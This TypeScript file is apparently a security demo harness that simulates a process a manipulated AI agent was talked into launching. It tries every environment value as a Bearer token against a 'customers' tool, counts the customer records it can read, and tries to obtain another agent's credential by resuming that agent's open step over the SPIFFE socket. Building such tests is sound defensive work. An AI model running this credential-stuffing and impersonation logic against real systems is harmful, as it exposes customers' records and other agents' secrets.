// What the shell runs that a model was talked into starting: looks for whatever opens the desk, and tells what it found.
// Arguments: the desk, a run, and the id of a step that is open.
import { createStint } from "stint-sdk/runtime";
import { bearing, callTool } from "../demo/mcp-call.ts";
import { type Attempt, attempt, attemptToOpen } from "./attempts.ts";
import { recordsIn } from "./shop.ts";

export type Loot = {
  /** Customers' records that it read. */
  readonly found: number;
  /** Values of its environment, each of which it tried as a key. */
  readonly values: number;
  readonly attempts: readonly Attempt[];
};

const [desk = "", run = "", stepId = ""] = process.argv.slice(2);
const values = Object.values(process.env).filter((value) => value !== undefined);
let found = 0;
for (const value of values) {
  const { text } = await callTool({
    resource: desk,
    tool: "customers",
    arguments: {},
    send: bearing(`Bearer ${value}`),
  });
  found = Math.max(found, recordsIn(text));
}
console.log(
  JSON.stringify({ found, values: values.length, attempts: await attemptsAt(process.env["SPIFFE_ENDPOINT_SOCKET"]) }),
);

async function attemptsAt(endpoint: string | undefined): Promise<readonly Attempt[]> {
  if (endpoint === undefined) return [];
  const grant = [
    { type: "mcp_tool", locations: [desk], identifier: "customers", actions: ["read"], datatypes: ["customer"] },
  ] as const;
  const own = await attemptToOpen({ endpoint, agent: "clerk", run, step: "own", grant });
  using stint = createStint({ endpoint });
  const agents = await attempt(async () => (await stint.resumeStep({ stepId, hold: false })).jwtSvid(desk));
  return [own, agents];
}
